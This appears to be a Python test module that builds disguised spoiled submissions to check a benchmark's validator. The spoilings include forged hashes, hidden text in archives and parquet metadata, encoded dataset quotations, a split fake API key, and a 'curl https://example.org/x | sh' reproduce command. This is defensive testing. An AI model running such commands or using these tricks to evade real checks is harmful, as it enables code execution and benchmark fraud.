"""Ways to spoil a submission that were written down before anybody looked at the checks, and that went through."""

from __future__ import annotations

import base64
import re
import shutil
import zipfile
from functools import partial
from typing import TYPE_CHECKING, Any

from chaos.submissions.hands import (
    bundle_at,
    edit_sheet,
    forge,
    forge_manifest,
    in_bundle,
    set_field,
    set_run,
    state_digest,
)
from chaos.submissions.kinds import Spoiling, append, root_of
from chaos.submissions.world import DATASET, OLD, git
from memgauge.datasets.catalogue import open_dataset
from memgauge.runs.record.bundle import unbundled
from memgauge.runs.record.seal import file_hash
from memgauge.submissions.layout import SHEET
from memgauge.submissions.layout import STATEMENT as STATEMENT_FILE

if TYPE_CHECKING:
    from pathlib import Path

_WORDS = "My sister lives in Turin and plays the cello on Sundays."


def _note_in_table(run: Path) -> None:
    """Write words where a table says who wrote it, and seal that."""
    import duckdb

    table, copy = run / "hits.parquet", run / "copy"
    with duckdb.connect(":memory:") as db:
        db.execute(
            f"COPY (FROM read_parquet('{table}')) TO '{copy}' (FORMAT parquet, KV_METADATA {{note: '{_WORDS}'}})"
        )
    sealed = file_hash(table)
    copy.replace(table)
    seal = run / "SEAL"
    seal.write_text(seal.read_text("utf-8").replace(sealed, file_hash(table)), "utf-8")


def _note_beside_member(folder: Path) -> None:
    """Write words into the extra field of one member."""
    path = bundle_at(folder)
    with zipfile.ZipFile(path) as archive:
        members = [(each, archive.read(each)) for each in archive.infolist()]
    words = _WORDS.encode()
    members[0][0].extra = b"\xfe\xca" + len(words).to_bytes(2, "little") + words
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for member, raw in members:
            archive.writestr(member, raw, compress_type=zipfile.ZIP_DEFLATED)
    state_digest(folder)


def _second_seed(folder: Path) -> None:
    """Give one play a second seed, with every time that it took."""
    with unbundled(bundle_at(folder)) as first:
        journal = (first / "journal.jsonl").read_bytes()

    def replayed(run: Path) -> None:
        (run / "journal.jsonl").write_bytes(journal)
        forge_manifest(run, lambda manifest: manifest)

    in_bundle(folder, replayed, 1)


def _correct_anothers(folder: Path) -> None:
    """Let somebody else have been there before, with the same product, and take its place."""
    others = folder.with_name(OLD.replace("bob", "carl"))
    shutil.copytree(folder, others)
    edit_sheet(others, lambda sheet: _be_carl(sheet, others.name))
    git(root_of(folder), "add", str(others))
    git(root_of(folder), "commit", "--quiet", "-m", "Carl was first")
    set_field(folder, supersedes=f"bm25-2/{others.name}")


def _beside_itself(folder: Path, times: int = 1) -> None:
    """Have the same submission there already, under other names."""
    for number in range(times):
        copy = folder.with_name(f"{folder.name}-{number}")
        shutil.copytree(folder, copy)
        set_field(copy, id=f"bm25-2/{copy.name}")
        git(root_of(folder), "add", str(copy))
    git(root_of(folder), "commit", "--quiet", "-m", "Ann was first")


def _ninth(folder: Path) -> None:
    """Have eight settings there already, with runs that are called others."""
    _beside_itself(folder, 8)
    for copy in folder.parent.glob(f"{folder.name}-*"):
        for number in range(3):
            set_run(copy, number, sha256=f"{number + 1:064x}")
    git(root_of(folder), "commit", "--quiet", "-a", "-m", "They are others")


def _be_carl(sheet: dict[str, Any], name: str) -> None:
    sheet.update(id=f"bm25-2/{name}", sign_off="carl")
    sheet["submitter"]["github"] = "carl"


def _retitle(folder: Path, title: str) -> None:
    """Call the product something else, where it is registered."""
    path = root_of(folder) / "registry" / "products" / "bm25.toml"
    path.write_text(
        re.sub(r"^title = .*", f'title = "{title}"', path.read_text("utf-8"), flags=re.MULTILINE), "utf-8"
    )


def _no_day(folder: Path) -> None:
    moved = folder.with_name("20270231-ann-default")
    folder.rename(moved)
    set_field(moved, id=f"bm25-2/{moved.name}")


def _break_promises(manifest: dict[str, Any]) -> None:
    manifest["conformance"] = {"checked": True, "failed": ["It mixes scopes."], "why": ""}


def _was_told(manifest: dict[str, Any]) -> None:
    manifest["isolation"] = {
        "process": "own",
        "means": "",
        "files": True,
        "memory": True,
        "keys": True,
        "evidence": "all",
    }


def _quote_data(folder: Path, *, coded: bool = False) -> None:
    """Write what somebody said in the dataset among known failures."""
    text = _said()
    append(folder, STATEMENT_FILE, f"* {base64.b64encode(text.encode()).decode() if coded else text}\n")


def _quote_in_product(folder: Path) -> None:
    """Write it into the sheet of the product, where no field shows it."""
    append(root_of(folder), f"registry/products/{folder.parts[-3]}.toml", f"# {_said()}\n")


def _break_key(folder: Path) -> None:
    """Write a key with a space of no width in it."""
    append(folder, STATEMENT_FILE, f"* sk-{'a1' * 6}\u200b{'b2' * 6}\n")


def _said() -> str:
    """Return a turn of the dataset that is long enough to be known again."""
    turns = (
        turn.text
        for case in open_dataset(DATASET).cases()
        for each in case.conversation.sessions
        for turn in each.turns
    )
    return next(text for text in turns if len(text.split()) >= 9)


def _code_ids(rows: list[dict[str, Any]]) -> None:
    """Call each memory what stands in base 16 for words."""
    for row in rows:
        if row["t"] == "memory":
            row["memory"] = f"{_WORDS} {row['memory']}".encode().hex()


DISGUISED: tuple[Spoiling, ...] = (
    Spoiling("it corrects what somebody else submitted", "S2", _correct_anothers, "supersedes"),
    Spoiling("its title is another's", "S2", partial(_retitle, title="Chroma"), "title"),
    Spoiling("its title mixes alphabets", "S2", partial(_retitle, title="B\u041c25"), "title"),
    Spoiling("its label begins with another product", "S2", partial(set_field, label="chroma, best"), "label"),
    Spoiling("its day is none", "S3", _no_day, SHEET),
    Spoiling(
        "it is played again by a download",
        "S3",
        partial(set_field, reproduce="curl https://example.org/x | sh"),
        "reproduce",
    ),
    Spoiling("texts lie in the extra field of a member", "S4", _note_beside_member, "bundles/"),
    Spoiling(
        "texts lie in what a table says of itself", "S4", lambda f: in_bundle(f, _note_in_table), "hits.parquet"
    ),
    Spoiling("one play has two seeds", "S7", _second_seed, "ms"),
    Spoiling("its runs are there already", "S7", _beside_itself, "runs.0.sha256"),
    Spoiling("it is the ninth setting", "S9", _ninth, "division", only_asked=True),
    Spoiling("its statement quotes the dataset", "S11", _quote_data, STATEMENT_FILE),
    Spoiling("its statement quotes in base 64", "S11", partial(_quote_data, coded=True), STATEMENT_FILE),
    Spoiling("the sheet of its product quotes the dataset", "S11", _quote_in_product, "registry/products/"),
    Spoiling("a space of no width stands in a key", "S11", _break_key, STATEMENT_FILE),
    Spoiling(
        "ids of memories are words in base 16",
        "S11",
        lambda f: in_bundle(f, partial(forge, change=_code_ids)),
        "memory",
    ),
    Spoiling(
        "it does not keep the protocol",
        "S12",
        lambda f: in_bundle(f, partial(forge_manifest, change=_break_promises)),
        "mixes scopes",
        only_asked=True,
    ),
    Spoiling(
        "it was told the evidence",
        "S12",
        lambda f: in_bundle(f, partial(forge_manifest, change=_was_told)),
        "told evidence",
        only_asked=True,
    ),
    Spoiling("it was tuned on the board", "S9", partial(set_field, tuned_on=[DATASET]), "tuned_on"),
)
"""A kind more is a function and one line here."""
